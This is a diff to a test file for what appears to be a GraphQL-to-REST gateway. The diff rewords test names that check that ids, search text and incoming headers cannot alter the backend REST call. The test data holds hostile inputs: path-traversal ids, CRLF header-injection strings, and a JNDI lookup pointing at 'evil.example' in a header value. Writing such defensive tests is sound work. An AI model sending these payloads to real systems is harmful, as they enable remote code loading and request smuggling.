@@ -17,7 +17,7 @@ beforeEach(() => {
   gateway.writes.length = 0;
 });
 
-/** Ids that would lead out of their place in a path, into the query, or to another host. */
+/** Ids that would change the path, the query or the host of the REST call. */
 const IDS = [
   "..",
   "../..",
@@ -80,7 +80,7 @@ const OPERATIONS: [name: string, query: string, field: string][] = [
 ];
 
 describe.each(OPERATIONS)("an id of %s", (_, query, field) => {
-  test.each(IDS)("%j never leaves its place", async (id) => {
+  test.each(IDS)("%j never changes the REST call", async (id) => {
     const { status, body } = await send(gateway.url, { body: { query, variables: { id } } });
     expect([status, [body.data[field]].flat()]).toEqual([200, [null]]);
     expect(body.errors).toMatchObject([{ extensions: { code: "BAD_USER_INPUT" } }]);
@@ -89,7 +89,7 @@ describe.each(OPERATIONS)("an id of %s", (_, query, field) => {
 });
 
 describe("an id of something that is written", () => {
-  test.each(IDS)("%j never leaves its place", async (id) => {
+  test.each(IDS)("%j never changes the REST call", async (id) => {
     const mutations = [
       "deleteLibrary(input: { id: $id }) { userErrors { code } }",
       'updateLibrary(input: { id: $id, name: "x" }) { userErrors { code } }',
@@ -111,7 +111,7 @@ describe("an id of something that is written", () => {
   });
 });
 
-describe("text that is no id may hold anything, and stays text:", () => {
+describe("text other than ids may hold anything, and stays text:", () => {
   test.each(["a\r\nX-Injected: 1", "../..", "a?b=c&d=e#f", "\0", '"}{', "a\u2028b"])("%j", async (phrase) => {
     const query = "query ($phrase: String!) { searchResponses(phrase: $phrase) { totalCount } }";
     const { status, body } = await send(gateway.url, { body: { query, variables: { phrase } } });
@@ -131,7 +131,7 @@ describe("text that is no id may hold anything, and stays text:", () => {
 
 describe("headers", () => {
   test.each(["x-explain", "cache-control", "authorization", "x-request-id", "x-forwarded-for", "traceparent"])(
-    "%s goes nowhere, whatever it holds",
+    "%s is never passed on",
     async (name) => {
       const headers = { [name]: "canary7f3a, ${jndi:ldap://evil.example/a} %0d%0aX-Injected: 1" };
       const {
